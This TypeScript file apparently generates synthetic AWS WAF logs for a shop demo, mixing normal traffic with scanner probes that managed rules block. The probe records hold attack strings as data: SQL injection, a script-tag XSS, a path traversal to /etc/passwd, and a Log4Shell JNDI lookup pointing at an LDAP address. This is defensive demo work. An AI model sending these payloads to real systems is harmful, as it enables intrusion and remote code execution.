import { workdayLoad } from './demo-day.ts'
import { createRandom, type Random } from './random.ts'

// The demo's edge: an AWS WAF web ACL in front of the shop's load balancer, logging every request
// as AWS writes them (the field set and rule shapes of the records in
// packages/formats/src/testing/waf-records.ts, from Elastic's pipeline tests). Most requests pass by
// the default action, some with a managed rule in count mode; scanners from a handful of addresses
// probe with SQL injection, cross-site scripting and bad inputs and are blocked by AWS managed rule
// groups, and one client trips the rate-based rule.

const minuteMs = 60_000
const account = '123456789012'
const webAcl = `arn:aws:wafv2:eu-west-1:${account}:regional/webacl/shop-edge/6f1c2a9e-3b7d-4c11-9d2e-5a0b8c7e4f21`
const paths = ['/', '/products', '/products/search', '/cart', '/checkout', '/api/v1/orders', '/login']
const userAgents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
]
/** Documentation ranges (RFC 5737): customers, and the scanners that keep coming back. */
const customers = Array.from({ length: 40 }, (_, n) => `198.51.100.${n + 10}`)
const scanners = ['203.0.113.45', '203.0.113.77', '203.0.113.102', '192.0.2.211']
const countries = ['DE', 'FR', 'GB', 'NL', 'US', 'ES']

interface Probe {
  group: string
  rule: string
  condition: string
  location: string
  uri: string
  args: string
  matched: string[]
}

const probes: Probe[] = [
  {
    group: 'AWSManagedRulesSQLiRuleSet',
    rule: 'SQLi_QUERYARGUMENTS',
    condition: 'SQL_INJECTION',
    location: 'QUERY_STRING',
    uri: '/products/search',
    args: 'q=%27%20OR%201%3D1--',
    matched: ["'", 'OR', '1=1--'],
  },
  {
    group: 'AWSManagedRulesCommonRuleSet',
    rule: 'CrossSiteScripting_QUERYARGUMENTS',
    condition: 'XSS',
    location: 'QUERY_STRING',
    uri: '/products',
    args: 'ref=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    matched: ['<script', '>'],
  },
  {
    group: 'AWSManagedRulesKnownBadInputsRuleSet',
    rule: 'Log4JRCE_HEADER',
    condition: 'LOG4J',
    location: 'HEADER',
    uri: '/',
    args: '',
    matched: ['${jndi:ldap://'],
  },
  {
    group: 'AWSManagedRulesCommonRuleSet',
    rule: 'GenericLFI_URIPATH',
    condition: 'LFI',
    location: 'URI',
    uri: '/static/../../etc/passwd',
    args: '',
    matched: ['../../'],
  },
]

/** The Log4Shell probe's header value, literally (not a template). */
// biome-ignore lint/suspicious/noTemplateCurlyInString: the attack string itself
const log4jLookup = '${jndi:ldap://203.0.113.45/a}'

const scannerAgents = [
  'sqlmap/1.8.4#stable (https://sqlmap.org)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36',
  'curl/8.5.0',
]

function headers(host: string, userAgent: string): { name: string; value: string }[] {
  return [
    { name: 'Host', value: host },
    { name: 'User-Agent', value: userAgent },
    { name: 'Accept', value: '*/*' },
  ]
}

function base(random: Random, ts: number, clientIp: string, requestId: string) {
  return {
    timestamp: ts,
    formatVersion: 1,
    webaclId: webAcl,
    httpSourceName: 'ALB',
    httpSourceId: `${account}-app/shop-alb/50dc6c495c0c9188`,
    ruleGroupList: [] as unknown[],
    rateBasedRuleList: [] as unknown[],
    nonTerminatingMatchingRules: [] as unknown[],
    requestHeadersInserted: null,
    responseCodeSent: null,
    httpRequest: {
      clientIp,
      country: random.pick(countries),
      headers: headers('shop.example.com', random.pick(userAgents)),
      uri: random.pick(paths),
      args: '',
      httpVersion: 'HTTP/1.1',
      httpMethod: 'GET',
      requestId,
    },
    labels: [] as unknown[],
  }
}

/** One request passed by the default action; now and then a managed rule in count mode matched it. */
function allowed(random: Random, ts: number, requestId: string): Record<string, unknown> {
  const record: Record<string, unknown> = {
    ...base(random, ts, random.pick(customers), requestId),
    terminatingRuleId: 'Default_Action',
    terminatingRuleType: 'REGULAR',
    action: 'ALLOW',
    terminatingRuleMatchDetails: [],
  }
  if (random.chance(0.03)) {
    // Large order bodies trip the body-size rule, which the team set to count while it tunes it.
    record.ruleGroupList = [
      {
        ruleGroupId: 'AWS#AWSManagedRulesCommonRuleSet',
        terminatingRule: null,
        nonTerminatingMatchingRules: [],
        excludedRules: [{ exclusionType: 'EXCLUDED_AS_COUNT', ruleId: 'SizeRestrictions_BODY' }],
      },
    ]
    ;(record.httpRequest as Record<string, unknown>).httpMethod = 'POST'
    ;(record.httpRequest as Record<string, unknown>).uri = '/api/v1/orders'
  }
  return record
}

/** A scanner's probe, blocked by a rule of an AWS managed rule group. */
function blockedProbe(random: Random, ts: number, requestId: string): Record<string, unknown> {
  const probe = random.pick(probes)
  const record = base(random, ts, random.pick(scanners), requestId)
  record.httpRequest.uri = probe.uri
  record.httpRequest.args = probe.args
  // Scanners often address the load balancer by its IP rather than the shop's name.
  record.httpRequest.headers = [
    ...headers(random.chance(0.5) ? 'shop.example.com' : '34.250.17.9', random.pick(scannerAgents)),
    ...(probe.location === 'HEADER' ? [{ name: 'X-Api-Version', value: log4jLookup }] : []),
  ]
  return {
    ...record,
    terminatingRuleId: `AWS-${probe.group}`,
    terminatingRuleType: 'MANAGED_RULE_GROUP',
    action: 'BLOCK',
    terminatingRuleMatchDetails: [
      { conditionType: probe.condition, location: probe.location, matchedData: probe.matched },
    ],
    ruleGroupList: [
      {
        ruleGroupId: `AWS#${probe.group}`,
        terminatingRule: { ruleId: probe.rule, action: 'BLOCK', ruleMatchDetails: null },
        nonTerminatingMatchingRules: [],
        excludedRules: null,
      },
    ],
  }
}

/** A client over the rate-based rule's limit (2,000 requests in 5 minutes from one address). */
function rateLimited(
  random: Random,
  ts: number,
  clientIp: string,
  requestId: string,
): Record<string, unknown> {
  return {
    ...base(random, ts, clientIp, requestId),
    terminatingRuleId: 'rate-limit-per-ip',
    terminatingRuleType: 'RATE_BASED',
    action: 'BLOCK',
    terminatingRuleMatchDetails: [],
    rateBasedRuleList: [
      {
        rateBasedRuleId: `arn:aws:wafv2:eu-west-1:${account}:regional/ipset/rate-limit-per-ip/0c8e4a1f`,
        rateBasedRuleName: 'rate-limit-per-ip',
        limitKey: 'IP',
        maxRateAllowed: 2000,
        evaluationWindowSec: '300',
        limitValue: clientIp,
      },
    ],
  }
}

/** Options of {@link generateDemoWafLog}. */
export interface DemoWafLogOptions {
  seed: number
  /** Epoch ms, inclusive (rounded down to the minute). */
  from: number
  /** Epoch ms, exclusive. */
  to: number
  /** When the demo's incidents start: a crawler hits the rate-based rule for ten minutes from then. */
  incidentAt: number
}

/** The web ACL's log of [from, to), one AWS WAF JSON record per line, in time order. */
export function generateDemoWafLog(options: DemoWafLogOptions): string[] {
  const random = createRandom(options.seed ^ 0x3a_f0)
  const lines: { ts: number; line: string }[] = []
  const start = Math.floor(options.from / minuteMs) * minuteMs
  for (let minute = start; minute < options.to; minute += minuteMs) {
    const load = workdayLoad(minute)
    const at = () => minute + random.int(0, minuteMs - 1)
    const id = (n: number, what: string) =>
      `1-${(minute / 1000).toString(16)}-${what}${n.toString(16).padStart(6, '0')}`
    const requests = random.poisson(30 * load)
    for (let n = 0; n < requests; n++) {
      const ts = at()
      lines.push({ ts, line: JSON.stringify(allowed(random, ts, id(n, 'a'))) })
    }
    // Scanners keep a steady pace whatever the hour: the internet does not sleep.
    const probes = random.poisson(1.5)
    for (let n = 0; n < probes; n++) {
      const ts = at()
      lines.push({ ts, line: JSON.stringify(blockedProbe(random, ts, id(n, 'p'))) })
    }
    if (minute >= options.incidentAt && minute < options.incidentAt + 10 * minuteMs) {
      const blocked = random.poisson(25)
      for (let n = 0; n < blocked; n++) {
        const ts = at()
        lines.push({ ts, line: JSON.stringify(rateLimited(random, ts, '203.0.113.200', id(n, 'r'))) })
      }
    }
  }
  lines.sort((a, b) => a.ts - b.ts)
  return lines.map((entry) => entry.line)
}
